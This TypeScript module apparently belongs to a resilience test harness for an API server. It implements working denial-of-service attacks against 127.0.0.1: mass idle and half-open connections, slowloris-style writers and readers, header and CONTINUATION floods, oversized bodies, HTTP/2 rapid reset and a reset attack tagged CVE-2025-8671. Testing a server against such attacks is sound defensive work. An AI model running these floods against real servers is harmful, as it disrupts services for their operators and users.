import { connect as connectPlain, type Socket } from "node:net";
import { connect, type TLSSocket } from "node:tls";
import { CODE, END_HEADERS, END_STREAM, FRAME, frame, headerBlock, word } from "../raw-http2.ts";

/** Who is attacked, and as whom; PEM texts. Without a certificate nobody is asked who they are. */
export interface Target {
  readonly port: number;
  readonly cert?: string;
  readonly key?: string;
}

/** Goes on until its process is ended; `isAtWork` is called once it is in full force. */
export type Attack = (target: Target, isAtWork: () => void) => Promise<void>;

const HOST = "127.0.0.1";
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
/** Connections of an attack that holds as many as it can. */
export const IDLE_CONNECTIONS = 10_000;
/** Connections that are being made at a time: more than a kernel's queue of them would only be made later. */
const AT_ONCE = 100;

const LIST = "/api/v1/configmaps";
const POST_PATH = "/api/v1/namespaces/default/configmaps";
const headersOf = (method: string, path: string): Record<string, string> => ({
  ":method": method,
  ":scheme": "https",
  ":path": path,
  ":authority": "test",
});
const never = (): Promise<void> => new Promise<void>(() => setInterval(() => {}, 60_000));

/** A connection that does not mind how it ends. */
function quiet<T extends Socket>(socket: T): T {
  socket.on("error", () => {});
  return socket;
}

/** Resolves with the next `event` of a connection, or its end. */
function next(socket: Socket, event: string): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off(event, done);
      socket.off("close", done);
      resolve();
    };
    socket.on(event, done);
    socket.on("close", done);
    if (socket.closed) done();
  });
}

let session: Buffer | undefined;

/** One over TLS; resolves when that stands, or the server did not want it. */
async function secure(target: Target, alpn: "h2" | "http/1.1"): Promise<TLSSocket> {
  const { port, cert, key } = target;
  const socket = quiet(
    connect({
      ...{ host: HOST, port, ALPNProtocols: [alpn], rejectUnauthorized: false },
      ...(cert !== undefined && { cert, key: key! }),
      // Resumed where it can be: ten thousand handshakes cost the attacker as much as the server.
      ...(session && cert === undefined && { session }),
    }),
  );
  socket.on("session", (known: Buffer) => (session ??= known));
  await next(socket, "secureConnect");
  return socket;
}

async function http2(target: Target, settings: Buffer = Buffer.alloc(0)): Promise<TLSSocket> {
  const socket = await secure(target, "h2");
  socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, settings)]));
  return socket;
}

/** Makes `count` connections, some at a time. */
async function many(count: number, make: (index: number) => Promise<unknown>): Promise<void> {
  for (let made = 0; made < count; made += AT_ONCE)
    await Promise.all(
      Array.from({ length: Math.min(AT_ONCE, count - made) }, (_, at) => make(made + at)),
    );
}

/** Sends `bytes()` over and over on new connections, as fast as the server takes it. */
async function pour(
  make: () => Promise<TLSSocket>,
  bytes: (index: number) => Buffer,
): Promise<void> {
  for (;;) {
    const socket = await make();
    socket.resume();
    for (let index = 0; socket.writable; index++) {
      if (!socket.write(bytes(index))) await next(socket, "drain");
      if (index % 50 === 49) await new Promise((resolve) => setImmediate(resolve));
    }
    socket.destroy();
  }
}

async function side(isAtWork: () => void, pouring: readonly Promise<void>[]): Promise<void> {
  isAtWork();
  await Promise.all(pouring);
}

const times = (count: number, make: () => Promise<void>): Promise<void>[] =>
  Array.from({ length: count }, make);

/** A setting of HTTP/2: how much the server may send at first on each stream. */
const window = (bytes: number): Buffer => Buffer.concat([Buffer.from([0, 4]), word(bytes)]);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "idle connections": async (target, isAtWork) => {
    await many(IDLE_CONNECTIONS, (index) =>
      index % 2 === 0 ? http2(target) : secure(target, "http/1.1"),
    );
    isAtWork();
    await never();
  },

  "half-open connections": async ({ port }, isAtWork) => {
    const hello = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00]);
    await many(2000, async (index) => {
      const socket = quiet(connectPlain(port, HOST));
      await next(socket, "connect");
      if (index % 2 === 0) socket.write(hello);
    });
    isAtWork();
    await never();
  },

  "slow writers": async (target, isAtWork) => {
    const sockets: TLSSocket[] = [];
    await many(600, async (index) => {
      const isOld = index % 2 === 0;
      const socket = isOld ? await secure(target, "http/1.1") : await http2(target);
      if (isOld) socket.write(`POST ${POST_PATH} HTTP/1.1\r\nHost: test\r\nX-Slow: `);
      else
        socket.write(
          frame(FRAME.headers, END_HEADERS, 1, headerBlock(headersOf("POST", POST_PATH))),
        );
      sockets.push(socket);
    });
    isAtWork();
    for (;;) {
      for (const [index, socket] of sockets.entries())
        if (socket.writable)
          socket.write(index % 2 === 0 ? "x" : frame(FRAME.data, 0, 1, Buffer.from(" ")));
      await new Promise((resolve) => setTimeout(resolve, 500));
    }
  },

  "slow readers": async (target, isAtWork) => {
    await many(200, async (index) => {
      const isOld = index % 2 === 0;
      const socket = isOld ? await secure(target, "http/1.1") : await http2(target, window(1));
      socket.pause();
      if (isOld) return void socket.write(`GET ${LIST} HTTP/1.1\r\nHost: test\r\n\r\n`.repeat(20));
      for (let stream = 1; stream < 40; stream += 2)
        socket.write(
          frame(
            FRAME.headers,
            END_HEADERS | END_STREAM,
            stream,
            headerBlock(headersOf("GET", LIST)),
          ),
        );
    });
    isAtWork();
    await never();
  },

  "floods of headers": async (target, isAtWork) => {
    const filler = "x".repeat(8000);
    const line = Buffer.from(`X-${"y".repeat(20)}: ${filler}\r\n`);
    const field = headerBlock({ "x-filler": filler });
    await side(isAtWork, [
      ...times(4, () =>
        pour(
          () => secure(target, "http/1.1"),
          (index) => (index === 0 ? Buffer.from("GET / HTTP/1.1\r\nHost: test\r\n") : line),
        ),
      ),
      ...times(4, () =>
        pour(
          () => http2(target),
          (index) =>
            index === 0
              ? frame(FRAME.headers, 0, 1, headerBlock(headersOf("GET", "/")))
              : frame(FRAME.continuation, 0, 1, field),
        ),
      ),
      ...times(4, () =>
        pour(
          () => http2(target),
          (index) =>
            frame(
              FRAME.headers,
              END_HEADERS | END_STREAM,
              index * 2 + 1,
              headerBlock({ ...headersOf("GET", "/healthz"), "x-filler": filler }),
            ),
        ),
      ),
    ]);
  },

  "huge bodies": async (target, isAtWork) => {
    const piece = Buffer.alloc(16_000, "x");
    const chunk = Buffer.concat([
      Buffer.from(`${piece.length.toString(16)}\r\n`),
      piece,
      Buffer.from("\r\n"),
    ]);
    const post = `POST ${POST_PATH} HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\n`;
    await side(isAtWork, [
      ...times(6, () =>
        pour(
          () => secure(target, "http/1.1"),
          (index) =>
            index === 0 ? Buffer.from(`${post}Transfer-Encoding: chunked\r\n\r\n`) : chunk,
        ),
      ),
      // Says much and sends less than the limit: what was sent must not stay.
      ...times(6, () =>
        pour(
          () => secure(target, "http/1.1"),
          (index) =>
            index === 0 ? Buffer.from(`${post}Content-Length: 1000000000000\r\n\r\n`) : piece,
        ),
      ),
      ...times(6, () =>
        pour(
          () => http2(target),
          (index) =>
            index === 0
              ? frame(FRAME.headers, END_HEADERS, 1, headerBlock(headersOf("POST", POST_PATH)))
              : frame(FRAME.data, 0, 1, piece),
        ),
      ),
    ]);
  },

  "resets of HTTP/2": async (target, isAtWork) => {
    const get = headerBlock(headersOf("GET", LIST));
    const post = headerBlock(headersOf("POST", POST_PATH));
    await side(isAtWork, [
      ...times(6, () =>
        pour(
          () => http2(target),
          (index) =>
            Buffer.concat([
              frame(FRAME.headers, END_HEADERS | END_STREAM, index * 2 + 1, get),
              frame(FRAME.reset, 0, index * 2 + 1, word(CODE.cancel)),
            ]),
        ),
      ),
      // The server is made to reset them itself. @spec CVE-2025-8671
      ...times(6, () =>
        pour(
          () => http2(target),
          (index) =>
            Buffer.concat([
              frame(FRAME.headers, END_HEADERS, index * 2 + 1, post),
              frame(FRAME.windowUpdate, 0, index * 2 + 1, word(0)),
            ]),
        ),
      ),
    ]);
  },

  "bytes that are no protocol": async ({ port }, isAtWork) => {
    const noise = Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 197 + 31) % 256));
    const plain = async (): Promise<void> => {
      for (;;) {
        const socket = quiet(connectPlain(port, HOST));
        await next(socket, "connect");
        socket.end(noise);
        socket.resume();
        await next(socket, "close");
      }
    };
    await side(isAtWork, [
      ...times(10, plain),
      ...times(4, () =>
        pour(
          () => secure({ port }, "http/1.1"),
          () => noise,
        ),
      ),
      ...times(4, () =>
        pour(
          () => http2({ port }),
          () => noise,
        ),
      ),
    ]);
  },
};
